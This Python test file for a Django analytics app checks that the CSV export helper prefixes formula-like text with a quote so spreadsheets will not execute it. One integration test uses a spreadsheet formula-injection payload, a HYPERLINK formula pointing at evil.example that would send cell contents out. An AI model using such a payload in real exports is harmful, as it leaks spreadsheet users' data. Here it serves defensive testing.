"""CSV exports neutralise formula injection (OWASP) in the one helper every export uses
(analytics.csv_export.csv_cell): text beginning with =, +, -, @, tab or CR gets a leading quote; numbers we
computed stay numbers, negative ones included."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.test import Client
from django.utils import timezone

from analytics.csv_export import csv_cell
from analytics.services import rollup_pending


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (-5, -5),
        (-88.9, -88.9),
        (Decimal("-1.5"), Decimal("-1.5")),
        (0, 0),
    ],
)
def test_a_cell_is_neutralised_when_it_is_text_that_starts_a_formula(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.django_db
def test_an_account_name_set_by_an_ingest_key_is_exported_as_text(workspace, make_client, staff_of):
    # given an ingest-only key that names an account with a formula, under an id that starts one too
    ingest = make_client(workspace, "ingest")
    name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert (
        ingest.post("/api/v1/events", {"account_id": "@acct", "feature_id": "reports"}, format="json").json()[
            "accepted"
        ]
        == 1
    )
    assert ingest.put("/api/v1/accounts/%40acct", {"name": name, "plan": "free"}, format="json").status_code == 200
    rollup_pending(now=timezone.now() + timedelta(seconds=1))
    client = Client()
    client.force_login(staff_of(workspace, "viewer"))
    # when the list holding the account is exported
    response = client.get("/lists/free-unentitled/export.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    # then the id and the name are text a spreadsheet will not run
    assert rows == [
        ["Account", "Name", "Plan", "Owner", "Ungranted features used", "Uses"],
        ["'@acct", "'" + name, "free", "", "reports", "1"],
    ]
